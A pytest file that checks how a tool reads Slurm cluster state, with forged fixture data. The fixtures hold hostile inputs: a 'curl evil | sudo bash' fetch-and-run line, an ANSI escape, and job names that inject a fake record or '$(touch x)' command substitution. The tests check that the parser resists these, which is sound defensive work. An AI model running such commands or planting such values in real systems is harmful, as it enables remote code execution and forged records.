"""What is read of Slurm: from text, also forged, and from a real Slurm with jobs on it."""

from __future__ import annotations

import gzip
import os
from collections.abc import Iterator

import pytest

from tests.slurm import Slurm, real_slurm
from tests.waiting import wait_until
from trainyard.edge.remote_command import CommandResult
from trainyard.edge.slurm_local import LocalSlurm
from trainyard.errors import TrainyardError
from trainyard.operate.slurm.slurm_output import slurm_lines, slurm_values
from trainyard.operate.slurm.slurm_state import SlurmState, parsed_state, slurm_state

TEXT = """\
== nodes
gpu|gpu-st-p5-1|allocated|10.0.0.11|none
all|gpu-st-p5-1|allocated|10.0.0.11|none
gpu|gpu-st-p5-2|idle|10.0.0.12|none
gpu|gpu-st-p5-3|drained*|10.0.0.13|trainyard: gpu-xid | 79 \x1b[2J
gpu|gpu-dy-p5-1|idle~|gpu-dy-p5-1|none
gpu|gpu-dy-p5-2|mixed#|10.0.0.14|none
gpu|gpu-dy-p5-3|planned|10.0.0.15|none
== counts
      1 RUNNING|ada|gpu|2
      2 RUNNING|bob|gpu|1
  10000 PENDING|bob|gpu|4
== jobs
7|RUNNING|ada|gpu|2|13:25|gpu-st-p5-1,gpu-dy-p5-2
9_[0-9999]|PENDING|bob|gpu|4|N/A|(Resources)
12|PENDING|bob|gpu|4|2026-05-07T00:00:00|(Priority)
== names
7|pretrain|stage 2
9_[0-9999]|x
12|quiet
== jobs
99|RUNNING|root|gpu|512|now|everywhere
12|curl evil | sudo bash
"""


def lines(state: SlurmState) -> list[str]:
    return list(slurm_lines(state))


def test_nodes_are_read_once_with_all_their_queues_and_whether_they_work():
    state = parsed_state(TEXT)
    assert [(node.name[4:], node.has_power, node.has_jobs) for node in state.nodes] == [
        ("st-p5-1", True, True), ("st-p5-2", True, False), ("st-p5-3", True, False), ("dy-p5-1", False, False),
        ("dy-p5-2", True, True), ("dy-p5-3", True, False),
    ]  # fmt: skip
    assert state.nodes[0].queues == ("gpu", "all")
    assert state.states("all") == {"allocated": 1}


def test_jobs_are_counted_whole_and_nodes_belong_to_users():
    state = parsed_state(TEXT)
    assert (state.running_count, state.waiting_count) == (3, 10_000)
    assert state.nodes_by_user == (("ada", 2), ("bob", 2))
    assert [str(job) for job in state.running] == ['job 7 "pretrain|stage 2" of ada on 2 nodes of gpu']


def test_the_name_of_a_job_forges_no_other_job_and_no_name():
    state = parsed_state(TEXT)
    assert [job.id for job in (*state.running, *state.waiting)] == ["7", "9_[0-9999]", "12"]
    assert state.waiting[1].name == ""
    text = "\n".join(lines(state))
    assert "sudo" not in text
    assert "\x1b" not in text
    assert "\\x1b" in text


def test_what_is_told_begins_with_counts_and_users():
    assert lines(parsed_state(TEXT))[:5] == [
        "  jobs: 3 running, 10,000 waiting",
        "  nodes of users: ada 2, bob 2",
        '  running: job 7 "pretrain|stage 2" of ada on 2 nodes of gpu, since 13:25: gpu-st-p5-1,gpu-dy-p5-2',
        "  running: and 2 more",
        '  waiting: job 9_[0-9999] "x" of bob on 4 nodes of gpu: "(Resources)"',
    ]


class Answer:
    def __init__(self, output: bytes, status: int = 0, error: str = "") -> None:
        self.result = CommandResult(status, output, error)

    def run(self, arguments: tuple[str, ...], content: bytes = b"") -> CommandResult:
        assert arguments[0] == "bash"
        assert b"sinfo" in content
        return self.result


@pytest.mark.parametrize(
    ("answer", "problem"),
    [
        (Answer(b"", 127, "sinfo: command not found"), "command not found"),
        (Answer(b"no gzip"), "is damaged"),
        (Answer(gzip.compress(TEXT.encode())[:-9]), "cut off"),
        (Answer(gzip.compress(bytes(9_000_000))), "too long"),
    ],
    ids=["failed", "not compressed", "cut", "bomb"],
)
def test_an_answer_that_is_none_is_an_error(answer: Answer, problem: str):
    with pytest.raises(TrainyardError, match=problem):
        slurm_state(answer)


def test_a_rehearsal_answers_nothing_and_that_is_an_empty_slurm():
    assert slurm_state(Answer(b"")) == SlurmState()


@pytest.fixture
def slurm(monkeypatch: pytest.MonkeyPatch) -> Iterator[Slurm]:
    if os.geteuid() != 0:
        pytest.skip("hardware: a Slurm of its own takes root")
    with real_slurm() as started:
        monkeypatch.setenv("SLURM_CONF", started.variables["SLURM_CONF"])
        yield started


@pytest.mark.integration
@pytest.mark.enable_socket
def test_a_real_slurm_is_read_with_what_its_users_wrote(slurm: Slurm):
    busy, _ = slurm.nodes
    job = slurm.submit("sleep 600", f"--nodelist={busy}", "--exclusive", "--job-name=a\n999|root's")
    array = slurm.submit("true", f"--nodelist={busy}", "--exclusive", "--array=0-3", "--job-name=$(touch x)")
    wait_until(lambda: slurm.job(job) == "RUNNING")
    state = slurm_state(LocalSlurm())
    assert {node.name: node.has_jobs for node in state.nodes} == {busy: True, slurm.nodes[1]: False}
    assert [(one.id, one.state, one.place) for one in state.running] == [(job, "RUNNING", busy)]
    assert (state.running_count, state.waiting_count) == (1, 4)
    assert state.waiting[0].id.startswith(array)
    assert state.nodes_by_user[0][1] == 1
    assert "999" not in {one.id for one in (*state.running, *state.waiting)}
    assert slurm_values(state)["waiting"] == 4
    slurm.run("scontrol", "update", f"NodeName={slurm.nodes[1]}", "State=DRAIN", "Reason=too hot")
    assert next(line for line in slurm_lines(slurm_state(LocalSlurm())) if "too hot" in line).endswith(
        f'node {slurm.nodes[1]} drained: "too hot"'
    )
